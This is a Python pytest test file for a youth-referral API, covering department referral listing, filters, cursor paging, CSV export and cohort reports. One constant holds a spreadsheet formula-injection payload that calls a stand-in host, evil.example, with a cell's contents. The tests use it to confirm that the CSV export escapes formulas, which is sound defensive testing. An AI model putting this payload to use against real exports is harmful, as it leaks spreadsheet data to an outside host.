"""GET /departments/{code}/referrals (filters, paging, CSV) and /report, on a known roster."""

from __future__ import annotations

import csv
import io
from collections import Counter
from urllib.parse import quote_plus

import pytest

from chalicelib.domain.clock import add_months
from chalicelib.domain.youth import majority_date
from tests.support import integration as s
from tests.support import reporting_world as fw

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1;"clic")'


def link_for(prenom: str, recipient: str) -> str:
    """The acknowledgement link of the email to ``recipient`` about the youth named ``prenom``."""
    found = [
        m["ack_url"]
        for m in s.sent()
        if m["to"] == recipient and m["ack_url"] and prenom in (m["text"] or "")
    ]
    assert len(found) == 1, f"{len(found)} emails found"
    return found[0]


@pytest.fixture
def world(client) -> fw.World:
    """Base roster plus two youths coming of age within 6 months; the jobs ran; partners answered:
    DUE10, NEAR1 (ML) and NEAR2 (HJ) accepted, ADULT refused, NEAR2's ML has not answered."""
    world = fw.make_world(client)
    today = world.today
    near = [
        s.youth("NEAR1", s.birth_for(today, years=18, days=60)),
        s.youth(
            "NEAR2",
            s.birth_for(today, years=18, days=90),
            besoin_logement="oui",
            parcours_logement="a_traiter",
            parcours_emploi="a_traiter",
        ),
    ]
    world.upload([*fw.base_rows(today), *near])
    world.run_jobs()
    lille, roubaix = "accueil@ml-lille.example.fr", "contact@ml-roubaix.example.fr"
    tilleuls = "accueil@fjt-tilleuls.example.fr"
    answers = [
        ("DUE10", lille, f"reponse=accepte&commentaire={_form(HYPERLINK)}"),
        ("NEAR1", lille, f"reponse=accepte&date_rdv={s.RDV}"),
        ("ADULT", roubaix, "reponse=refuse&motif=complet"),
        ("NEAR2", tilleuls, "reponse=accepte"),
    ]
    for id_externe, recipient, body in answers:
        page = world.answer(link_for(world.rows[id_externe]["prenom"], recipient), body)
        assert page.status_code == 200
    return world


def _form(text: str) -> str:
    return quote_plus(text)


def items(world: fw.World, query: str = "") -> list[dict]:
    answer = world.get(f"/departments/59/referrals?{query}")
    assert answer.status_code == 200, answer.json_body
    return answer.json_body["items"]


def test_the_list_shows_every_referral_and_filters_and_pages_them(world):
    # The whole list: each referral of the department with its status
    found = {(r["id_externe"], r["kind"]): r["status"] for r in items(world)}
    assert found == {
        ("DUE10", "mission_locale"): "acknowledged",
        ("ADULT", "mission_locale"): "declined",
        ("NEAR1", "mission_locale"): "acknowledged",
        ("NEAR2", "mission_locale"): "sent",
        ("NEAR2", "habitat_jeunes"): "acknowledged",
    }
    # Filters by status and kind, alone or together
    acknowledged = {r["id_externe"] for r in items(world, "status=acknowledged")}
    assert acknowledged == {"DUE10", "NEAR1", "NEAR2"}
    assert [r["id_externe"] for r in items(world, "kind=habitat_jeunes")] == ["NEAR2"]
    sent_ml = items(world, "status=sent&kind=mission_locale")
    assert [(r["id_externe"], r["kind"]) for r in sent_ml] == [("NEAR2", "mission_locale")]
    assert items(world, "status=cancelled") == []
    # Pages of two, following the cursor, give each referral once
    seen, cursor = [], ""
    for _ in range(10):
        answer = world.get(f"/departments/59/referrals?limit=2{cursor}").json_body
        seen += [r["referral_id"] for r in answer["items"]]
        if answer["cursor"] is None:
            break
        cursor = f"&cursor={answer['cursor']}"
    assert len(seen) == len(set(seen)) == 5


def test_the_csv_export_is_an_attachment_that_a_spreadsheet_cannot_run(world):
    answer = world.csv()
    assert answer.status_code == 200
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"].startswith("attachment; filename=")
    text = answer.body.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text[1:]), delimiter=";"))
    assert len(rows) == 5
    assert rows[0].keys() >= {"referral_id", "id_externe", "kind", "status", "commentaire"}
    [due10] = [row for row in rows if row["id_externe"] == "DUE10"]
    # The partner's "=HYPERLINK(…)" comment comes out as text, never as a formula
    assert due10["commentaire"] == "'" + HYPERLINK
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


def test_the_csv_export_follows_the_filters_and_needs_a_csv_accept_header(world):
    text = world.csv("&status=declined").body.decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text[1:]), delimiter=";"))
    assert [(row["id_externe"], row["motif"]) for row in rows] == [("ADULT", "complet")]
    # A client that accepts only JSON is told so in a JSON error
    answer = world.get("/departments/59/referrals?format=csv")
    assert answer.status_code == 406
    assert answer.json_body["error"]["code"] == "not_acceptable"


def test_the_report_counts_match_the_known_roster(world):
    report = world.get("/departments/59/report").json_body
    today = world.today
    months = Counter(
        majority_date(r["date_naissance"]).strftime("%Y-%m") for r in world.rows.values()
    )
    assert report["department"] == "59"
    assert report["youths_by_majority_month"] == dict(sorted(months.items()))
    cohort = report["next_6_months"]
    assert cohort["to"] == add_months(today, 6).isoformat()
    assert cohort["youths"] == 2  # NEAR1, NEAR2
    assert cohort["ml_acknowledged_share"] == 0.5  # NEAR1 only
    assert cohort["housing_needed"] == 1  # NEAR2
    assert cohort["hj_acknowledged_share"] == 1.0
    assert cohort["pathway"]["emploi"] == {
        "securise": 0,
        "en_cours": 0,
        "a_traiter": 1,
        "inconnu": 1,
    }
    assert report["referrals"]["open"] == 1
    assert report["referrals"]["acknowledged"] == 3
    assert report["referrals"]["declined"] == 1
    assert report["median_days_to_acknowledgement"] >= 0
    assert report["pathway_risks"] == 1
    assert report["pathway_risks_by_part"]["logement"] == 1
    assert report["pathway_risks_by_part"]["emploi"] == 1


def test_an_operator_reads_the_same_report_and_an_unknown_department_is_a_404(world):
    mine = world.get("/departments/59/report").json_body
    operator = world.get("/departments/59/report", world.operator)
    assert operator.status_code == 200
    assert operator.json_body == mine
    unknown = world.get("/departments/01/report", world.operator)
    assert unknown.status_code == 404
    assert unknown.json_body["error"]["code"] == "not_found"
